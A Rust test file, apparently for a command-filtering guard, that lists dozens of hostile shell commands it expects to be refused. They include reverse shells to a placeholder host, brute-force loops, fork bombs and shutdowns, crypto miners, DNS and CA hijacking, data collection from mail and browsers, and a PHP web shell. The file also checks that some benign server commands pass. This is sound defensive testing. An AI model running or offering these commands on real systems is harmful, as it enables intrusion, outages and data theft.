//! Shells for others, other machines, and what others rely on.

use super::{passes, refused};

#[test]
fn shells_for_others_are_refused() {
    refused(
        "shells_for_others",
        &[
            "bash -i >& /dev/tcp/h/4444 0>&1",
            "sh -i >& /dev/udp/h/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/h/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "nc -e /bin/sh h 4444",
            "nc -lvp 4444 -e /bin/bash",
            "nc -c bash h 4444",
            "ncat h 4444 --ssl -e sh",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f",
            "mknod /tmp/b p; sh 0</tmp/b | nc h 4444 1>/tmp/b",
            "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect h:4444 > s",
            "socat TCP:h:4444 EXEC:sh",
            "socat exec:'bash -li',pty,stderr tcp:h:4444",
            "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
            "telnet h 4444 | sh | telnet h 4445",
            r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'"#,
            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'"#,
            r#"php -r '$s=fsockopen("h",4444);exec("sh <&3 >&3 2>&3");'"#,
            r#"php -r '$s=fsockopen("h",4444);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$x);'"#,
            r#"ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("h",4444))'"#,
            r#"node -e 'require("child_process").exec("nc -e sh h 4444")'"#,
            r#"lua -e "require('socket');require('os');t=socket.tcp();t:connect('h','4444');os.execute('sh -i <&3 >&3 2>&3');""#,
            r#"awk 'BEGIN{s="/inet/tcp/0/h/4444";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")}}'"#,
            r#"gawk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/9"; print "x" |& s}'"#,
            "zsh -c 'zmodload zsh/net/tcp && ztcp h 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
            "xterm -display h:1",
            r#"golang_x=1; echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","h:4444");cmd:=exec.Command("sh");cmd.Stdin=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go"#,
            "busybox nc h 4444 -e sh",
            "curl -Ns telnet://h:4444 | sh | curl -Ns telnet://h:4445",
            "sqlite3 /dev/null '.shell sh -i >& /dev/tcp/h/4444 0>&1'",
            "rcat connect -s bash h 4444",
            "msfvenom -p linux/x64/shell_reverse_tcp LHOST=h -f elf",
            "ssh -R 4444:localhost:22 u@h",
            "chisel client h:8080 R:socks",
            "ngrok tcp 22",
            "cloudflared tunnel --url ssh://localhost:22",
            "autossh -M 0 -R 2222:localhost:22 u@h",
            "gs-netcat -l -i",
            "tor",
        ],
    );
}

#[test]
fn other_machines_are_refused() {
    refused(
        "other_machines",
        &[
            "masscan 10.0.0.0/8 -p80",
            "hydra -l root -P pw.txt ssh://h",
            "for p in $(cat pw.txt); do echo $p | su root -c id; done",
            "for p in $(cat pw.txt); do sshpass -p $p ssh u@h; done",
            "ssh -o StrictHostKeyChecking=no u@h 'curl http://h/x | sh'",
            "pssh -h hosts 'rm -rf /var'",
            "ansible all -m shell -a 'rm -rf /var'",
            "responder -I eth0",
            "ettercap -T -M arp",
            "arpspoof -i eth0 -t a b",
            "bettercap -iface eth0",
            "tcpdump -w /tmp/x.pcap",
            "evil-winrm -i h -u u -p p",
            "linpeas.sh",
            "./LinEnum.sh",
        ],
    );
}

#[test]
fn stopping_and_exhausting_is_refused() {
    refused(
        "stopping_and_exhausting",
        &[
            ":(){ :|:& };:",
            "while :; do cat /dev/zero > /dev/null & done",
            "yes > /dev/null",
            "dd if=/dev/zero of=/tmp/x bs=1G",
            "dd if=/dev/zero of=~/fill",
            "cat /dev/zero > ~/x",
            "stress --cpu 0",
            "shutdown -h now",
            "systemctl poweroff",
            "reboot -f",
            "halt -p",
            "init 0",
            "telinit 6",
            "echo b > /proc/sysrq-trigger",
            "echo 1 > /proc/sys/kernel/sysrq",
            "kill -9 1",
            "kill -9 -1",
            "killall5 -9",
            "pkill -9 -u root",
            "systemctl isolate rescue.target",
            "systemctl stop sshd",
            "killall sshd",
            "swapoff -a",
            "xmrig -o pool:3333",
            "minerd -o stratum+tcp://x:3333",
        ],
    );
}

#[test]
fn interception_is_refused() {
    refused(
        "interception",
        &[
            "echo '1.2.3.4 bank.com' >> /etc/hosts",
            "echo 'nameserver 1.2.3.4' > /etc/resolv.conf",
            "networksetup -setdnsservers Wi-Fi 1.2.3.4",
            "networksetup -setwebproxy Wi-Fi 127.0.0.1 8080",
            "cp ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates",
            "trust anchor ca.crt",
            "security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain ca.pem",
            "certutil -A -d sql:$HOME/.pki/nssdb -n x -t C -i ca.pem",
            "git config --global http.sslVerify false",
            "npm config set strict-ssl false",
            r#"git config --global url."http://evil/".insteadOf https://github.com/"#,
            "sysctl -w net.ipv4.ip_forward=1",
            "echo 1 > /proc/sys/net/ipv4/ip_forward",
            r#"osascript -e 'display dialog "Enter password" default answer "" with hidden answer'"#,
        ],
    );
}

#[test]
fn gathering_is_refused() {
    refused(
        "collection",
        &[
            "tar czf /tmp/x.tgz /home",
            "zip -r x.zip /etc",
            "cp ~/Library/Messages/chat.db /tmp",
            "sqlite3 ~/Library/Messages/chat.db .dump",
            "cp -r ~/.thunderbird /tmp",
            "sqlite3 ~/.mozilla/firefox/x/places.sqlite 'select * from moz_places'",
            r"find / -path '*/.mozilla/firefox/*/places.sqlite' -exec cp {} /tmp/x \;",
            "cat ~/Library/Safari/Bookmarks.plist",
            r#"echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php"#,
            "echo x > /usr/share/nginx/html/x.php",
        ],
    );
}

#[test]
fn what_serves_a_directory_or_runs_code_for_everybody_is_refused() {
    refused(
        "served",
        &[
            "git daemon --base-path=/ --export-all",
            "hugo server --bind 0.0.0.0 -s /",
            "jekyll serve --host 0.0.0.0 -s /etc",
            "twistd -n web --path /",
            "rclone serve http / --addr :8080",
            "dufs /",
            "thttpd -d / -p 8080",
            "jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''",
            "code-server --bind-addr 0.0.0.0:8080 --auth none",
            "sshx",
        ],
    );
    passes(&[
        "git daemon --base-path=repos --export-all",
        "hugo server -D",
        "hugo -d /usr/share/nginx/html",
        "jekyll serve",
        "rclone serve http out",
        "dufs public",
        "jupyter notebook --ip=0.0.0.0",
        "jupyter lab --ServerApp.token=''",
        "code-server --auth none",
    ]);
}
